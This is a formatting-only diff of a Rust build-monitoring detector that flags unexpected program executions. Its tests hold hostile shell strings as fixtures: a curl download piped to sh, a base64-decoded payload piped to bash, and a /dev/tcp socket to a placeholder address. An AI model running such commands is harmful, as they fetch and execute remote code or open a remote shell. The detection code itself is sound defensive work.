@@ -33,7 +33,9 @@ enum Reason {
     ShellText,
     /// What it runs comes by standard input, so that no argument tells it. A shell's text joins programs of which each
     /// is expected; an interpreter acts by calls of its own, and starts what is judged like any start.
-    UnseenText { joins_programs: bool },
+    UnseenText {
+        joins_programs: bool,
+    },
     AlarmingText(&'static str),
 }
 
@@ -61,7 +63,9 @@ fn rule(cx: &Context<'_>, out: &mut Vec<Draft>) {
             }
             Reason::Unknown | Reason::Download => format!("{} tried to start {subject}", actor(tried)),
             Reason::ShellText => format!("{} tried to run a text of its own by {}", actor(tried), Bytes::from(name)),
-            Reason::UnseenText { .. } => format!("{} tried to have {subject} run what it gives it on standard input", actor(tried)),
+            Reason::UnseenText { .. } => {
+                format!("{} tried to have {subject} run what it gives it on standard input", actor(tried))
+            }
             Reason::AlarmingText(why) => format!("{} tried to run a text that {why}: {subject}", actor(tried)),
         };
         let shown: Vec<_> = argv.iter().take(16).cloned().collect();
@@ -94,7 +98,9 @@ fn reason(cx: &Context<'_>, tried: &Tried<'_>, argv: &[Bytes], file: ProgramFile
                     (given == Given::Input && is_by_unseen_text(tried)).then_some(Reason::UnseenText { joins_programs })
                 };
             };
-            if let Some(why) = shell::alarm(text, &|path| tried.unit.owns(path) || tried.unit.in_source(path), below_driver) {
+            if let Some(why) =
+                shell::alarm(text, &|path| tried.unit.owns(path) || tried.unit.in_source(path), below_driver)
+            {
                 Some(Reason::AlarmingText(why))
             } else if below_driver {
                 None
@@ -301,7 +307,8 @@ mod tests {
     #[test]
     fn a_download_tool_is_medium_everywhere_also_below_make() {
         assert_eq!(script(|u| u.run(&["/usr/bin/curl", "-L", "x.invalid"])), ["unexpected-exec medium curl"]);
-        let found = script(|u| u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/usr/bin/wget"], &["/usr/bin/make", SCRIPT]));
+        let found =
+            script(|u| u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/usr/bin/wget"], &["/usr/bin/make", SCRIPT]));
         assert_eq!(found, ["unexpected-exec medium wget"]);
     }
 
@@ -320,7 +327,9 @@ mod tests {
     #[test]
     fn a_shell_text_is_low_and_an_alarming_one_high() {
         assert_eq!(script(|u| u.run(&["/bin/sh", "-c", "echo hi"])), ["unexpected-exec low sh -c echo hi"]);
-        for text in ["curl x.invalid | sh", "base64 -d <<< aGk= | bash", "exec 3<>/dev/tcp/192.0.2.1/80", "/tmp/rust-setup &"] {
+        for text in
+            ["curl x.invalid | sh", "base64 -d <<< aGk= | bash", "exec 3<>/dev/tcp/192.0.2.1/80", "/tmp/rust-setup &"]
+        {
             let found = script(|u| u.run(&["/bin/sh", "-c", text]));
             assert_eq!(found, [format!("unexpected-exec high sh -c {text}")]);
         }
@@ -351,7 +360,8 @@ mod tests {
         assert!(script(|u| u.run(&["/usr/bin/m4"]).run(&["/usr/bin/python3", "--version"])).is_empty());
         let piped = |u: UnitBuilder| u.by("/usr/bin/dash").exec(ProgramFile::Elf, &["/bin/sh"], &[SCRIPT]);
         assert!(script(piped).is_empty());
-        let below = |u: UnitBuilder| u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/bin/sh"], &["/usr/bin/make", SCRIPT]);
+        let below =
+            |u: UnitBuilder| u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/bin/sh"], &["/usr/bin/make", SCRIPT]);
         assert!(script(below).is_empty());
     }
 
@@ -389,11 +399,9 @@ mod tests {
     fn below_make_anything_may_run_and_texts_are_ordinary() {
         assert!(
             script(|u| {
-                u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/bin/sh", "-c", "cd x && ./mkfoo > /tmp/y"], &[SCRIPT]).exec(
-                    ProgramFile::Elf,
-                    &["/usr/bin/whoami"],
-                    &[SCRIPT],
-                )
+                u.by("/usr/bin/make")
+                    .exec(ProgramFile::Elf, &["/bin/sh", "-c", "cd x && ./mkfoo > /tmp/y"], &[SCRIPT])
+                    .exec(ProgramFile::Elf, &["/usr/bin/whoami"], &[SCRIPT])
             })
             .is_empty()
         );
